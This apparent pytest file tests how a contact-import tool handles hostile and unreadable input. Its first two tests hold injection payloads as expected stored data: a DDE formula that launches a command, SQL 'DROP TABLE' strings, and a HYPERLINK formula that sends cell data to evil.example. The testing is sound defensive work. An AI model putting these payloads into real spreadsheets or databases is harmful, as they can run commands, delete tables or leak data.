"""Hostile and unreadable input: formula-looking and SQL-looking text is data, huge fields fit, and
files that cannot be read at all give an InputFileError naming the file (and leave the store
alone)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from recontact.errors import InputFileError


def test_formula_and_sql_text_are_stored_verbatim(samples, run_import, query, contact_rows):
    s = run_import(samples / "csv" / "hostile.csv")
    assert (s.imported, s.rejected) == (2, 0)
    h1, h2 = contact_rows()
    assert h1["customer_name"] == "=cmd|' /C calc'!A0"
    assert h1["category"] == "'); DROP TABLE contacts;--"
    assert json.loads(h1["extra"]) == {"Comment": '=HYPERLINK("http://evil.example/?" & A1, "click")'}
    assert h2["customer_name"] == "Robert'); DROP TABLE identifiers;--"
    assert h2["category"] == 'a "quoted", comma, and; semicolon'
    assert json.loads(h2["extra"]) == {"Comment": "@SUM(1+1)"}
    # Nothing was executed: both tables are still there and hold what they should.
    assert query("SELECT count(*) FROM contacts") == [(2,)]
    assert query("SELECT ident FROM identifiers") == [("phone:+14155550134",)]


def test_sql_text_in_the_file_name_and_headers(tmp_path, run_import, contact_rows):
    folder = tmp_path / "it's; DROP TABLE contacts;--"
    folder.mkdir()
    path = folder / "o'brien.csv"
    path.write_text('started_at,"we""ird\', col",x\n2026-01-05T09:00:00Z,ok,1\n')
    s = run_import(path)
    assert s.imported == 1
    (row,) = contact_rows()
    assert json.loads(row["extra"]) == {"we\"ird', col": "ok", "x": "1"}


def test_a_one_megabyte_field(tmp_path, run_import, query):
    big = "x" * (1 << 20)
    path = tmp_path / "big.csv"
    path.write_text(f"started_at,phone,notes\n2026-01-05T09:00:00Z,4155550134,{big}\n"
                    f"2026-01-05T10:00:00Z,4155550134,small\n")
    s = run_import(path)
    assert (s.imported, s.rejected) == (2, 0)
    (extra,) = query("SELECT extra FROM contacts WHERE line = 2")[0]
    assert json.loads(extra)["notes"] == big


@pytest.mark.parametrize(("make", "message"), [
    (lambda p: p.write_bytes(b""), "the file is empty"),
    (lambda p: p.write_bytes(b"\n \r\n\t\n"), "the file is empty"),
    (lambda p: p.write_bytes(bytes(range(256)) * 8), "looks binary (NUL bytes), not a text export"),
    (lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), "looks binary (NUL bytes), not a text export"),
    (lambda p: None, "no such file"),
    (lambda p: p.mkdir(), "is a directory, not a file"),
], ids=["empty", "whitespace", "binary", "png", "missing", "directory"])
@pytest.mark.parametrize("source", [None, "csv", "jsonl", "asterisk"])
def test_unreadable_files_name_the_file(tmp_path, run_import, query, store_path, make, message, source):
    path = tmp_path / "export.csv"
    make(path)
    with pytest.raises(InputFileError) as e:
        run_import(path, source=source)
    assert str(e.value) == f"{path}: {message}"
    if store_path.exists():  # --source opens the store first: it must still be empty
        assert query("SELECT count(*) FROM contacts") == [(0,)]


def test_header_only_file(samples, run_import, store_path):
    path = samples / "csv" / "header_only.csv"
    with pytest.raises(InputFileError) as e:
        run_import(path)
    assert str(e.value) == f"{path}: no valid contact in 0 rows"


def test_file_with_only_bad_rows_reports_the_first(samples, run_import):
    path = samples / "csv" / "bad_rows_only.csv"
    with pytest.raises(InputFileError) as e:
        run_import(path)
    assert str(e.value) == (f"{path}: no valid contact in 2 rows; first: line 2: started_at \"yesterday\" "
                            "is not an ISO 8601 time (give --time-format for other layouts)")


def test_unknown_source_lists_the_known_ones(samples, run_import):
    with pytest.raises(InputFileError, match=r"unknown --source 'zendesk'; known: jsonl, asterisk, csv"):
        run_import(samples / "csv" / "crlf.csv", source="zendesk")


def test_unreadable_file_permission(tmp_path, run_import, monkeypatch):
    """Simulated (tests may run as root, who can read anything)."""
    path = tmp_path / "secret.csv"
    path.write_text("started_at\n2026-01-01T00:00:00Z\n")
    real_open = Path.open

    def deny(self: Path, *args: object, **kwargs: object) -> object:
        if self == path:
            raise PermissionError(13, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(Path, "open", deny)
    with pytest.raises(InputFileError) as e:
        run_import(path)
    assert str(e.value) == f"{path}: permission denied"


def test_latin1_without_declaration_and_a_bad_utf8_tail(tmp_path: Path, run_import, contact_rows):
    """A file that is UTF-8 except for one Latin-1 byte far down is read as Latin-1 (nothing
    rejected for encoding), and its UTF-8 text is then visibly mis-decoded, not dropped."""
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"started_at,customer_name\n2026-01-05T09:00:00Z,Ren\xc3\xa9e\n"
                     b"2026-01-05T10:00:00Z,M\xfcller\n")
    s = run_import(path)
    assert s.imported == 2
    assert [r["customer_name"] for r in contact_rows()] == ["RenÃ©e", "Müller"]
